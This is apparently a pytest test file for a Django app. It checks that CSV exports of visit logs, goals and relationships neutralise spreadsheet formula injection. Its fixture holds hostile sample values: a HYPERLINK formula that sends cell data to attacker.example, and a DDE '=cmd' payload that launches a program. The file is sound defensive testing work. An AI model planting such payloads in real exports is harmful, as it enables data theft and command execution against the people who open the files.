"""Exports are safe to open in a spreadsheet: text people typed that starts like a formula
(`=`, `+`, `-`, `@`, a tab, a carriage return) is written as text, with a leading quote, while
the numbers the export writes itself stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from core.spreadsheet import safe_cell
from tests.factories import GoalFactory, VisitFactory, in_days
from tests.programs.coordinator_world import coordinated_program, relationship_in

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Open the log")'


def export(client, program, what: str) -> list[dict]:
    response = client.get(f"/programs/{program.code}/export/{what}.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(client):
    """A program that shares logs with its coordinator, with names and words that start like
    formulas: the mentor "@Mona Quist", the protégé "+Pia Larch"."""
    program, coordinator = coordinated_program(coordinators_read_shared_logs=True)
    relationship = relationship_in(
        program,
        mentor__first_name="@Mona",
        mentor__last_name="Quist",
        protege__first_name="+Pia",
        protege__last_name="Larch",
    )
    visit = VisitFactory(
        relationship=relationship,
        logged=True,
        date=in_days(-2),
        feedback=HYPERLINK,
        whats_working="-1 tantrum this week",
        focus_challenges="\tTransitions",
        protege_next_steps="\r=cmd|' /C calc'!A0",
    )
    goal = GoalFactory(
        relationship=relationship,
        title="=1+1",
        unit="@SUM(A1:A9)",
        baseline=Decimal("-3"),
        target=Decimal("4"),
    )
    client.force_login(coordinator)
    return relationship, visit, goal


def test_visits_export_writes_formulas_as_text(client, hostile):
    relationship, visit, _ = hostile
    (row,) = export(client, relationship.program, "visits")
    assert row["visit"] == str(visit.code)
    assert row["feedback"] == "'" + HYPERLINK
    assert row["what's working"] == "'-1 tantrum this week"
    assert row["current focus / challenges"] == "'\tTransitions"
    assert row["protégé's next steps"] == "'\r=cmd|' /C calc'!A0"
    assert row["mentor or coach"] == "'@Mona Quist"
    assert row["protégé or team"] == "'+Pia Larch"
    # Text that does not start like a formula is left as it was.
    assert row["status"] == "Logged"
    assert row["date"] == in_days(-2).isoformat()


def test_goals_export_writes_formulas_as_text_and_numbers_as_numbers(client, hostile):
    relationship, _, goal = hostile
    (row,) = export(client, relationship.program, "goals")
    assert row["goal"] == str(goal.code)
    assert row["title"] == "'=1+1"
    assert row["unit"] == "'@SUM(A1:A9)"
    assert row["mentor or coach"] == "'@Mona Quist"
    # A negative baseline is a number the export writes, not text someone typed.
    assert (row["baseline"], row["target"]) == ("-3.00", "4.00")


def test_relationships_export_writes_names_as_text(client, hostile):
    relationship, _, _ = hostile
    (row,) = export(client, relationship.program, "relationships")
    assert row["relationship"] == str(relationship.code)
    assert (row["mentor or coach"], row["protégé or team"]) == ("'@Mona Quist", "'+Pia Larch")
    assert row["goals"] == "1"


def test_roster_template_goes_through_the_same_writer(client):
    program, coordinator = coordinated_program()
    client.force_login(coordinator)
    response = client.get(f"/programs/{program.code}/participants/import/template.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    assert rows[0][:4] == ["role", "first_name", "last_name", "email"]
    assert rows[1][1:3] == ["Maria", "Lopez"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=A1", "'=A1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Mona", "Mona"),
        ("", ""),
        ("a=b", "a=b"),
        (-3, -3),
        (Decimal("-2.5"), Decimal("-2.5")),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written
